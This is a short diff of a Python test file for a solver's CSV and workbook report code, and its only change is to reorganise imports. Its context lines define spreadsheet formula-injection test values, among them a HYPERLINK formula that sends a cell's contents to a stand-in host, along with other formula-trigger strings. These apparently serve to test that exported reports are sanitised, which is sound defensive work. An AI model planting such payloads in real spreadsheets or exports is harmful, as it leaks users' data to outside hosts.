@@ -14,7 +14,8 @@ from test_report import CATALOG, WORKLOADS, sample_plan
 from solver.report.cells import FORMULA_START, csv_frame, csv_text
 from solver.report.workbook import write_workbook
 from solver.sweep.report import write_sweep_files
-from solver.sweep.run import Scenario, ScenarioRow, SweepRun
+from solver.sweep.rows import ScenarioRow, SweepRun
+from solver.sweep.scenarios import Scenario
 
 HYPERLINK = '=HYPERLINK("http://x/?"&A1,"click")'
 EVIL = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
